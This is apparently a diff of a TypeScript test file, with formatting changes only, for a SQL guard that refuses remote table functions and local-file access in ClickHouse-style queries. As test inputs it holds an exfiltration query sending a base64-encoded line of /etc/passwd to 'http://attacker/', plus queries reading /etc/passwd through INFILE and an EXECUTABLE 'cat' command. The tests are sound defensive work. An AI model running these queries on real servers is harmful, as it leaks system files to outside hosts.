@@ -7,7 +7,9 @@ import { checkSetting, confineStatement, stringLiteralValue, userFilePath, type 
 const policy = (allowRemote = false): TableAccessPolicy => ({
   userFilesDir: '/data/user_files',
   allowRemote,
-  tableFunctions: new Set(['file', 'url', 's3', 'remote', 'mysql', 'numbers', 'eval', 'executable', 'icebergLocal', 'filesystem', 'format', 'input'].map((n) => n.toLowerCase())),
+  tableFunctions: new Set(
+    ['file', 'url', 's3', 'remote', 'mysql', 'numbers', 'eval', 'executable', 'icebergLocal', 'filesystem', 'format', 'input'].map((n) => n.toLowerCase()),
+  ),
   engines: new Set(['mergetree', 'memory', 'file', 'url', 's3', 'kafka', 'filesystem', 'mysql', 'atomic', 'log', 'executable']),
 });
 
@@ -26,11 +28,12 @@ const refusal = (sql: string, allowRemote = false): string => {
 
 describe('confineStatement: remote table functions', () => {
   it('refuses the exfiltration of the issue, whatever the spelling', () => {
-    const exfil = "SELECT * FROM url(concat('http://attacker/?d=', (SELECT base64Encode(line) FROM file('/etc/passwd','LineAsString') LIMIT 1)), 'LineAsString')";
+    const exfil =
+      "SELECT * FROM url(concat('http://attacker/?d=', (SELECT base64Encode(line) FROM file('/etc/passwd','LineAsString') LIMIT 1)), 'LineAsString')";
     expect(refusal(exfil)).toBe('url() is refused: it reaches other servers, which this server allows only when started with --allow-remote-functions');
     expect(refusal("SELECT * FROM URL('http://a/', 'LineAsString')")).toMatch(/^URL\(\) is refused/);
     expect(refusal("SELECT * FROM `url`('http://a/', 'LineAsString')")).toMatch(/^url\(\) is refused/);
-    expect(refusal('SELECT * FROM "uRl"(\'http://a/\', \'LineAsString\')')).toMatch(/is refused/);
+    expect(refusal("SELECT * FROM \"uRl\"('http://a/', 'LineAsString')")).toMatch(/is refused/);
     expect(refusal("SELECT * FROM url /* hidden */ ('http://a/', 'LineAsString')")).toMatch(/is refused/);
     expect(refusal("SELECT * FROM url--x\n('http://a/', 'LineAsString')")).toMatch(/is refused/);
     expect(refusal("INSERT INTO FUNCTION s3('http://a/x.csv') SELECT 1")).toMatch(/^s3\(\) is refused/);
@@ -41,7 +44,9 @@ describe('confineStatement: remote table functions', () => {
     expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(HTTP(url 'http://a/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)")).toMatch(
       /^Dictionary source HTTP reaches other servers/,
     );
-    expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(CLICKHOUSE(HOST 'a' TABLE 't')) LAYOUT(FLAT()) LIFETIME(0)")).toMatch(/^Dictionary source CLICKHOUSE/);
+    expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(CLICKHOUSE(HOST 'a' TABLE 't')) LAYOUT(FLAT()) LIFETIME(0)")).toMatch(
+      /^Dictionary source CLICKHOUSE/,
+    );
   });
 
   it('allows them with --allow-remote-functions, and never eval(), programs or other local paths', () => {
@@ -54,9 +59,9 @@ describe('confineStatement: remote table functions', () => {
     expect(refusal("CREATE TABLE t (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '/')", true)).toMatch(/opens a directory/);
     expect(refusal("INSERT INTO t FROM INFILE '/etc/passwd' FORMAT LineAsString", true)).toMatch(/^FROM INFILE is not allowed/);
     expect(refusal("ATTACH TABLE t FROM '/etc' (a String) ENGINE = Log", true)).toMatch(/^ATTACH \.\.\. FROM <path>/);
-    expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(EXECUTABLE(command 'cat /etc/passwd' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)", true)).toMatch(
-      /runs a program/,
-    );
+    expect(
+      refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(EXECUTABLE(command 'cat /etc/passwd' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)", true),
+    ).toMatch(/runs a program/);
   });
 
   it('leaves local statements, and tables named like functions, as they are', () => {
